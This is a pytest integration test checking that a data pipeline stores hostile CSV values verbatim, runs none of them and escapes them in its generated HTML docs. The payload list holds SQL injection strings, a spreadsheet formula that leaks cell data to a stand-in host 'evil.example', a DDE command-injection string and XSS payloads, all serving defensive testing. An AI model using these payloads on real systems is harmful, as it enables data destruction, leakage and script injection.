"""Injection: hostile values in every column are data: stored verbatim, never executed, escaped in Data Docs."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from flows.pipeline import run_pipeline
from tests.factories import COLUMNS, make_frame
from tests.integration.helpers import read_table, scalar

pytestmark = pytest.mark.usefixtures("prefect_harness")
PAYLOADS = [
    "'); DROP TABLE raw_sales; --",
    "1' OR '1'='1",
    'x"; DELETE FROM clean_sales WHERE "1"="1',
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|'/C calc'!A0",
    "<script>alert('xss-{column}')</script>",
    "<img src=x onerror=alert('img-{column}')>",
]


def _hostile_file(path: Path) -> tuple[Path, list[str]]:
    """Three valid rows, then one row per (column, payload) with the payload in that column."""
    overrides = [{c: p.format(column=c)} for c in COLUMNS for p in PAYLOADS]
    frame = make_frame(3, rows=overrides)
    frame.to_csv(path, index=False, quoting=csv.QUOTE_ALL)
    return path, [p.format(column=c) for c in COLUMNS for p in PAYLOADS]


def test_hostile_values_are_stored_verbatim_and_escaped_in_docs(pipeline_env: str, tmp_path: Path) -> None:
    """It stores every payload as received, runs none of them, quarantines them, and shows them as text in the docs."""
    path, payloads = _hostile_file(tmp_path / "hostile.csv")

    summary = run_pipeline(source=str(path))

    assert summary.status == "COMPLETED"
    raw = read_table(pipeline_env, "raw_sales", summary.run_id)
    stored = {value for column in COLUMNS for value in raw[column].dropna()}
    assert set(payloads) <= stored
    assert len(raw) == 3 + len(payloads)
    # order_id is free text, so those rows are clean (stored verbatim there too); the other columns fail their rules
    free_text = [p.format(column="order_id") for p in PAYLOADS]
    assert (summary.clean_count, summary.exception_count) == (3 + len(free_text), len(payloads) - len(free_text))
    assert set(free_text) <= set(read_table(pipeline_env, "clean_sales", summary.run_id)["order_id"])
    assert scalar(pipeline_env, "SELECT COUNT(*) FROM clean_sales") == 3 + len(free_text)  # no payload ran as SQL
    html = "\n".join(p.read_text(encoding="utf-8") for p in (tmp_path / "docs" / summary.run_id).rglob("*.html"))
    for column in COLUMNS:
        assert f"<script>alert('xss-{column}')</script>" not in html
        assert f"<img src=x onerror=alert('img-{column}')>" not in html
    # Escaped exactly once: the page shows `<script>` as text; escaped twice it would show `&lt;script&gt;`.
    assert "&lt;script&gt;" in html
    assert "&amp;lt;" not in html and "&amp;gt;" not in html
